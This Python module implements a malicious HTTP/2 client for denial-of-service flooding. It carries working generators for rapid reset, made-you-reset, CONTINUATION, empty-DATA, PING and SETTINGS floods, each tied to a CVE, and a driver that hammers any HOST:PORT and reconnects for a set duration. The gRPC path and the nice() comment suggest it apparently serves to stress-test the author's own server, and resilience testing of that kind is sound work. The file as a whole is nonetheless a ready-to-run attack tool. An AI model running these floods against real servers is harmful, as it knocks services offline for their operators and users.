"""A peer who means harm: frames that HTTP/2 servers have been brought down with.

    python -m promises.attack KIND HOST:PORT SECONDS

Prints how many frames it got rid of, and how many connections that took.
"""

import json
import os
import socket
import sys
import time
from collections.abc import Callable, Iterator

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BURST = 200
"""Frames in one write."""
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/toolgate.v1.RouterService/Route"),
    (":authority", "attack"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]

Frames = Iterator[Frame]


def _begun(stream: int, *flags: str) -> HeadersFrame:
    return HeadersFrame(stream, data=Encoder().encode(HEADERS), flags=["END_HEADERS", *flags])


def rapid_reset() -> Frames:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    for stream in range(1, 2**31, 2):
        yield _begun(stream)
        yield RstStreamFrame(stream, error_code=8)


def made_you_reset() -> Frames:
    """Calls that the server has to reset itself: a window grows by nothing (CVE-2025-8671)."""
    for stream in range(1, 2**31, 2):
        yield _begun(stream)
        yield WindowUpdateFrame(stream, window_increment=0)


def continuation() -> Frames:
    """Headers that never end (CVE-2024-27316 and others)."""
    yield HeadersFrame(1, data=Encoder().encode(HEADERS), flags=[])
    junk = Encoder().encode([(f"x-{number}", "y" * 100) for number in range(20)])
    while True:
        yield ContinuationFrame(1, data=junk, flags=[])


def empty_data() -> Frames:
    """A body of nothing, in any number of frames."""
    yield _begun(1)
    while True:
        yield DataFrame(1, data=b"")


def pings() -> Frames:
    """Pings, each of which has to be answered (CVE-2019-9512)."""
    while True:
        yield PingFrame(0, opaque_data=b"12345678")


def settings() -> Frames:
    """Settings, each of which has to be acknowledged (CVE-2019-9515)."""
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})


KINDS: dict[str, Callable[[], Frames]] = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "empty-data": empty_data,
    "pings": pings,
    "settings": settings,
}


def attack(kind: str, target: str, seconds: float) -> dict[str, int]:
    host, port = target.rsplit(":", 1)
    until, frames, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        try:
            with socket.create_connection((host, int(port)), timeout=2) as wire:
                connections += 1
                frames += _send(wire, KINDS[kind](), until)
        except OSError:
            # Closed by the server: begin anew.
            time.sleep(0.001)
    return {"frames": frames, "connections": connections}


def _send(wire: socket.socket, frames: Frames, until: float) -> int:
    sent = 0
    wire.sendall(PREFACE + SettingsFrame(0).serialize())
    wire.settimeout(0.5)
    try:
        while time.monotonic() < until:
            burst = [frame.serialize() for frame, _ in zip(frames, range(BURST), strict=False)]
            wire.sendall(b"".join(burst))
            sent += len(burst)
            _swallow(wire)
    except OSError:
        pass
    return sent


def _swallow(wire: socket.socket) -> None:
    """Reads what is there, as a peer does who wants the server to go on."""
    wire.setblocking(False)
    try:
        while wire.recv(65_536):
            pass
        raise ConnectionResetError
    except BlockingIOError:
        pass
    finally:
        wire.settimeout(0.5)


if __name__ == "__main__":
    # Whoever measures must not wait for whoever attacks.
    os.nice(10)
    print(json.dumps(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]))))
